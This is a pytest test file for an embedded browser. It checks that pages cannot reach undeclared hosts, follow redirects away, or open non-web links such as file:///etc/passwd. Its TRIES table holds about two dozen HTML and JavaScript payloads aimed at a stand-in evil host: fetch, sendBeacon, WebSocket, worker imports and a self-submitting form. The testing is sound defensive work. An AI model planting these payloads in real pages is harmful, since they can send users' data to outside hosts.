"""Whatever a page tries, nobody but those who are declared is asked for anything."""

import pytest

from tests.screens.browser.websites import EVIL, OFFICIAL, PARTS, UNKNOWN

TRIES = {
    "picture": "<img src='{evil}'>",
    "script": "<script src='{evil}'></script>",
    "style": "<link rel=stylesheet href='{evil}'>",
    "frame": "<iframe src='{evil}'></iframe>",
    "object": "<object data='{evil}'></object>",
    "embed": "<embed src='{evil}'>",
    "fetch": "<script>fetch('{evil}', {{mode: 'no-cors'}}).catch(over)</script>",
    "beacon": "<script>navigator.sendBeacon('{evil}', 'a')</script>",
    "prefetch": "<link rel=prefetch href='{evil}'>",
    "preconnect": "<link rel=preconnect href='{evil}'>",
    "event source": "<script>new EventSource('{evil}').onerror = over</script>",
    "socket": "<script>new WebSocket('{evil}'.replace('http', 'ws')).onerror = over</script>",
    "worker": "<script>worker = new Worker(URL.createObjectURL(new Blob(["
    "`importScripts('{evil}')`]))); worker.onerror = over</script>",
    "module": "<script type=module>import('{evil}').catch(over)</script>",
    "video": "<video src='{evil}' autoplay muted onerror='over()'></video>",
    "manifest": "<link rel=manifest href='{evil}'>",
    "icon": "<link rel=icon href='{evil}'>",
    "srcdoc": "<iframe srcdoc=\"<img src='{evil}'>\"></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}'>",
    "location": "<script>location = '{evil}'</script>",
    "form": "<form id=f method=post action='{evil}'><input name=a value=b></form>"
    "<script>f.submit()</script>",
    "window": "<script>window.open('{evil}')</script>",
    "css": "<style>body {{ background: url('{evil}') }}</style>",
}
AWAY = {"refresh", "location", "form"}  # these are told, for they would have led away
# Every other try is over when it says so itself; those that cannot, when all of the page is there.
_OVER = "<script>over = () => fetch('/over')</script>"
_ONCE_LOADED = "<script>onload = over</script>"


@pytest.mark.parametrize("name", TRIES)
def test_a_stranger_is_asked_for_nothing(visitor, name):
    evil = visitor.websites.at("/taken", EVIL)
    tries = TRIES[name].format(evil=evil)
    visitor.websites.pages["/tries"] = _OVER + tries + ("" if "over" in tries else _ONCE_LOADED)
    visitor.goes_to("/tries")

    if name in AWAY:
        visitor.shows_soon("not an official one")
    else:
        visitor.waits(lambda: "/over" in visitor.websites.hits(OFFICIAL))

    assert visitor.websites.hits(EVIL) == []
    assert visitor.websites.posted == []


@pytest.mark.parametrize("use", ["<img src='{}'>", "<script src='{}'></script>"])
def test_what_is_declared_for_pages_is_loaded_beside_them(visitor, use):
    visitor.shows(use.format(visitor.websites.at("/part", PARTS)) + "<p>A page</p>")

    visitor.waits(lambda: "/part" in visitor.websites.hits(PARTS))


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_does_not_lead_to_a_stranger_either(visitor, status):
    evil = visitor.websites.at("/taken", EVIL)
    visitor.websites.pages["/away"] = lambda it: it.answer(b"", status, Location=evil)
    visitor.goes_to("/away")

    visitor.shows_soon("not an official one for this procedure")
    assert visitor.websites.hits(EVIL) == []
    visitor.resident.press("Back to the site")
    assert visitor.asks("document.querySelector('h1').textContent") == "Bonjour"


def test_a_picture_that_redirects_to_a_stranger_asks_him_for_nothing(visitor):
    # The engine asks nobody of such a redirect: that no other name is looked up holds it.
    evil = visitor.websites.at("/taken", UNKNOWN)
    visitor.websites.pages["/img"] = lambda it: it.answer(b"", 302, Location=evil)
    visitor.shows("<img id=i src=/img onerror='window.failed = 1'>")

    visitor.waits(lambda: bool(visitor.asks("window.failed")))
    assert visitor.websites.hits(UNKNOWN) == []


@pytest.mark.parametrize("address", ["about:blank", "about:blank#x", "http://caf.localhost%00.x/"])
def test_an_empty_page_is_told_of_and_led_back_from(visitor, address):
    visitor.shows(f"<h1>Bonjour</h1><a id=away href='{address}'>Away</a>")
    visitor.clicks("#away")

    visitor.shows_soon("not an official one for this procedure")
    visitor.resident.press("Back to the site")
    visitor.waits_for("/")
    assert visitor.asks("document.querySelector('h1').textContent") == "Bonjour"


@pytest.mark.parametrize(
    "link", ["mailto:a@caf.fr", "tel:3230", "file:///etc/passwd", "x-foo:bar", "data:text/html,a"]
)
def test_no_link_leads_out_of_the_web(visitor, link):
    out = f"<a id=out onclick='window.clicked = 1' href='{link}'>Out</a>"
    visitor.shows(f"{out}<a id=on href=/on>On</a>")
    been = visitor.asks("history.length")
    visitor.clicks("#out")
    visitor.waits(lambda: bool(visitor.asks("window.clicked")))

    visitor.clicks("#on")  # who clicks once more is where he was
    visitor.waits_for("/on")
    assert visitor.asks("history.length") == been + 1


def test_a_page_that_insists_waits_longer_each_time_and_is_counted(visitor):
    evil = visitor.websites.at("/taken", EVIL)
    for _ in range(3):
        visitor.goes_to(evil)
        visitor.shows_soon("not an official one")
        if "Back to the site" in visitor.resident.buttons:
            visitor.resident.press("Back to the site")

    assert "One moment…" in visitor.resident.buttons
    assert visitor.resident.counted["blocked", "card", "times"] == 3
    visitor.waits(lambda: "Back to the site" in visitor.resident.buttons)
